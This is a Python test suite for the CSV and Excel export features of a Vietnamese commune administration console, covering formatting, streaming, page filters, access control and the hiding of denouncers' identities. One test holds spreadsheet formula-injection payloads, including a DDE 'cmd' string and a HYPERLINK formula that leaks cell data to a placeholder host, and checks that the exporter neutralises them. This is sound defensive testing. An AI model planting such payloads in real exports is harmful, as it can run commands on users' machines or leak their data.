"""A list leaves the house whole or not at all, row by row, and names nobody whom its page does not name."""

import asyncio
import csv
import io
import tempfile
from collections.abc import AsyncIterator, Iterator, Sequence
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.responses import Response, StreamingResponse
from openpyxl import load_workbook

from services.console.work import exports
from services.console.work.exports import Value
from shared.contracts import Event
from shared.contracts.routing import AnswerPublished, QuestionAssigned, QuestionAwaitsTriage
from tests.builders import COMMUNE, NOW, of_question, question, submission_received
from tests.unit import conference_scene as scene
from tests.unit.test_console_pages import CLERK, OFFICER, console

HEAD = ("Tên", "Số", "Phần", "Ngày", "Lúc", "Nội dung")
ROW: Sequence[Value] = (
    "Nguyễn Thị Mai",
    12_345,
    0.75,
    date(2026, 4, 20),
    datetime(2026, 4, 20, 2, 30, tzinfo=UTC),
    'hai dòng;\n"và" dấu',
)


async def content(response: Response) -> bytes:
    assert isinstance(response, StreamingResponse)
    return b"".join(
        [piece if isinstance(piece, bytes) else bytes(piece, "utf-8") async for piece in response.body_iterator]
    )


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def sheet(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data)).active


def left_behind() -> set[str]:
    return {file.name for file in Path(tempfile.gettempdir()).glob("openpyxl.*")}


async def test_what_comes_back_from_csv_is_what_went_in() -> None:
    data = await content(exports.stream_csv(HEAD, [ROW], name="thu"))
    assert data.startswith(b"\xef\xbb\xbf"), "Excel takes it for UTF-8"
    head, row = cells(data)
    assert tuple(head) == HEAD
    assert row == ["Nguyễn Thị Mai", "12345", "75,0%", "2026-04-20", "2026-04-20 09:30", 'hai dòng;\n"và" dấu']


async def test_what_comes_back_from_a_workbook_is_what_went_in() -> None:
    response = await exports.stream_xlsx("Thử", HEAD, [ROW], name="thu")
    data = await content(response)
    assert response.headers["content-length"] == str(len(data))
    found = sheet(data)
    assert (found.title, found.freeze_panes, found.auto_filter.ref) == ("Thử", "A2", "A1:F2")
    assert [cell.value for cell in found[1]] == list(HEAD)
    assert [cell.value for cell in found[2]] == [
        "Nguyễn Thị Mai",
        12_345,
        0.75,
        datetime.fromisoformat("2026-04-20 00:00"),
        datetime.fromisoformat("2026-04-20 09:30"),
        'hai dòng;\n"và" dấu',
    ]
    assert [cell.number_format for cell in found[2]][2:5] == ["0.0%", "dd/mm/yyyy", "dd/mm/yyyy hh:mm"]
    assert all(found.column_dimensions[letter].width >= 12 for letter in "ABCDEF")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+84912345678", "'+84912345678"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        ("1 = 1", "1 = 1"),
        ('Xin hỏi,=HYPERLINK("http://x/?"&A1)', """Xin hỏi,'=HYPERLINK("http://x/?"&A1)"""),
        ("một; +2", "một; '+2"),
        ('một\n "-2', """một\n "'-2"""),
        ("một|@hai", "một|'@hai"),
        ("từ 1 - 2, 3", "từ 1 - 2, 3"),
        ("ai@xa.example, anh", "ai@xa.example, anh"),
    ],
)
async def test_no_text_is_a_formula(text: str, shown: str) -> None:
    [_, [told]] = cells(await content(exports.stream_csv(("Chữ",), [(text,)], name="thu")))
    assert told == shown
    cell = sheet(await content(await exports.stream_xlsx("Thử", ("Chữ",), [(text,)], name="thu")))["A2"]
    assert cell.data_type == "s"


async def test_what_no_workbook_may_hold_is_left_out() -> None:
    data = await content(await exports.stream_xlsx("Thử", ("Chữ",), [("mưa\x00 to\x0b",)], name="thu"))
    assert sheet(data)["A2"].value == "mưa to"


@pytest.mark.parametrize("format", ["csv", "xlsx"])
async def test_rows_may_be_waited_for(format: exports.Format) -> None:
    async def rows() -> AsyncIterator[Sequence[Value]]:
        for number in range(450):
            yield number, f"dòng {number}"

    data = await content(await exports.stream(format, "thu", "Thử", ("Số", "Chữ"), rows()))
    told = cells(data)[1:] if format == "csv" else list(sheet(data).iter_rows(min_row=2, values_only=True))
    assert len(told) == 450
    assert str(told[-1][0]) == "449"


@pytest.mark.parametrize("format", ["csv", "xlsx"])
async def test_rows_are_read_a_chunk_at_a_time_and_let_go(format: exports.Format) -> None:
    begun, closed = asyncio.Event(), asyncio.Event()
    loop, read = asyncio.get_running_loop(), 0

    def rows() -> Iterator[Sequence[Value]]:
        nonlocal read
        try:
            for read in range(1, 100_001):
                yield (read,)
                loop.call_soon_threadsafe(begun.set)
        finally:
            loop.call_soon_threadsafe(closed.set)

    before = left_behind()
    if format == "csv":
        response = exports.stream_csv(("Số",), rows(), name="thu")
        body: Any = response.body_iterator
        await anext(body)
        await anext(body)
        assert read == exports.CHUNK, "no more than was asked for"
        await body.aclose()
    else:
        making = asyncio.create_task(exports.stream_xlsx("Thử", ("Số",), rows(), name="thu"))
        await asyncio.wait_for(begun.wait(), 10)
        making.cancel()
        with pytest.raises(asyncio.CancelledError):
            await making
    await asyncio.wait_for(closed.wait(), 10)
    assert read < 100_000
    assert left_behind() <= before


@pytest.mark.parametrize("format", ["csv", "xlsx"])
async def test_a_list_that_cannot_be_read_to_its_end_is_no_file(format: exports.Format) -> None:
    def rows() -> Iterator[Sequence[Value]]:
        yield from ((number,) for number in range(1_000))
        raise RuntimeError("the disk is gone")

    before = left_behind()
    with pytest.raises(RuntimeError, match="the disk is gone"):
        await content(await exports.stream(format, "thu", "Thử", ("Số",), rows()))
    assert left_behind() <= before


async def test_other_work_goes_on_while_a_workbook_is_made() -> None:
    made, turns = list[Response](), 0

    async def make() -> None:
        made.append(await exports.stream_xlsx("Thử", HEAD, (ROW for _ in range(3_000)), name="thu"))

    async with asyncio.TaskGroup() as group:
        group.create_task(make())
        while not made:
            turns += 1
            await asyncio.sleep(0)
    assert turns > 3_000 / exports.CHUNK
    assert sheet(await content(made[0])).max_row == 3_001


# --- lists ----------------------------------------------------------------------------------------------------------

SECRET = "Chủ tịch thôn Nội nhận tiền của bà Mai"
EVERY: Sequence[Event] = (
    *scene.CONCLUDED,
    submission_received(collected_by=None, questions=(question(1, SECRET), question(2, "Bao giờ có nước sạch?"))),
    of_question(QuestionAwaitsTriage, scope="denunciation"),
)


async def got(folder: Path, path: str, *events: Event, worker: str = CLERK) -> httpx.Response:
    transport = httpx.ASGITransport(console(folder, events or EVERY, NOW))
    cookies = {"doithoai_console": f"{COMMUNE}/{worker}"}
    async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1", cookies=cookies) as client:
        return await client.get(path)


@pytest.mark.parametrize(
    ("path", "head"),
    [
        ("/cau-hoi.csv?loc=tat-ca&phong=", "Phiếu;Câu;Nhận lúc"),
        ("/viec.csv?phong=", "Hạn;Hạn ban đầu;Thời hạn"),
        ("/buu-chinh.csv", "Phiếu;Loại;Số, ký hiệu"),
        ("/thu-vien.csv", "Lĩnh vực;Câu hỏi;Câu trả lời"),
        ("/tinh.csv", "Xã, phường;"),
        (f"/tinh/{COMMUNE}.csv", "Theo;Nội dung;Tiếp nhận"),
    ],
)
async def test_each_list_has_its_file(tmp_path: Path, path: str, head: str) -> None:
    answer = await got(tmp_path, path)
    assert (answer.status_code, answer.headers["content-type"]) == (200, "text/csv; charset=utf-8")
    assert answer.content.decode("utf-8-sig").startswith(head)
    book = await got(tmp_path, path.replace(".csv", ".xlsx"))
    assert (book.status_code, book.headers["content-type"]) == (200, exports.XLSX)
    assert "attachment; filename*=UTF-8''" in book.headers["content-disposition"]
    told = [
        [str(value) for value in row if value is not None] for row in sheet(book.content).iter_rows(values_only=True)
    ]
    assert len(told) == len(cells(answer.content))


async def test_a_file_has_the_filters_of_its_page(tmp_path: Path) -> None:
    every = cells((await got(tmp_path, "/cau-hoi.csv?loc=tat-ca&phong=")).content)[1:]
    land = cells((await got(tmp_path, f"/cau-hoi.csv?loc=tat-ca&phong={scene.LAND}")).content)[1:]
    found = cells((await got(tmp_path, "/cau-hoi.csv?loc=tat-ca&phong=&tim=thoat+nuoc")).content)[1:]
    assert (len(every), len(land), len(found)) == (10, 4, 2)
    for nothing in ("%21%21%21", "-", "%22", "%F0%9F%98%80"):
        typed = await got(tmp_path, f"/cau-hoi.csv?loc=tat-ca&phong=&tim={nothing}")
        assert cells(typed.content)[1:] == [], "what no word can say finds nothing, and not everything"
    assert {row[7] for row in land} == {"Phòng Kinh tế"}
    assert all("thoát nước" in row[5] for row in found)


@pytest.mark.parametrize("worker", [CLERK, OFFICER])
async def test_no_file_tells_who_denounced_whom(tmp_path: Path, worker: str) -> None:
    for path in ("/cau-hoi.csv?loc=tat-ca&phong=", "/viec.csv?phong="):
        told = (await got(tmp_path, path, worker=worker)).text
        assert [words for words in ("nhận tiền", "Nguyễn Thị Mai;Bao", "Vũ Thị Thu", "Bí Mật") if words in told] == []
        if path.startswith("/cau-hoi"):
            rows = {(row[0], row[1]): row for row in cells(told.encode())[1:]}
            assert rows["K7QX-3M9D", "2"][4:6] == ["", "Bao giờ có nước sạch?"], "nor who asked beside it"


@pytest.mark.parametrize(
    ("path", "worker", "because"),
    [
        ("/buu-chinh.csv", OFFICER, "letters are the office's"),
        ("/so-van-ban.csv", OFFICER, "so is the register"),
        ("/cau-hoi.csv", "cap-tinh", "the province sees figures alone"),
        ("/viec.xlsx", "van-hanh", "so does whoever runs the system"),
        ("/tinh/thanh-mai.csv", CLERK, "another commune"),
    ],
)
async def test_a_file_is_for_those_whose_page_it_is(tmp_path: Path, path: str, worker: str, because: str) -> None:
    assert (await got(tmp_path, path, worker=worker)).status_code == 403, because


async def test_a_library_entry_that_was_taken_out_is_in_no_file(tmp_path: Path) -> None:
    asked = (submission_received(), of_question(QuestionAssigned), of_question(AnswerPublished))
    assert len(cells((await got(tmp_path, "/thu-vien.csv", *asked)).content)) == 2
